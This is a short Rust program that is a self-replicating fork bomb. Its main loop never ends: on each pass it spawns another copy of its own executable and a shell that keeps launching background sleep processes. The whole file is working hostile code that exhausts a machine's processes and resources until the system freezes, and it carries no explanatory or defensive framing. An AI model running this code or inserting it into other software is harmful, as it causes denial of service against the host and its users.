use std::process::Command;

fn main() {
    let me = std::env::current_exe().unwrap_or_else(|_| "/proc/self/exe".into());
    loop {
        let _ = Command::new(&me).spawn();
        let _ = Command::new("/bin/sh").arg("-c").arg("while :; do sh -c 'sleep 100' & done").spawn();
    }
}
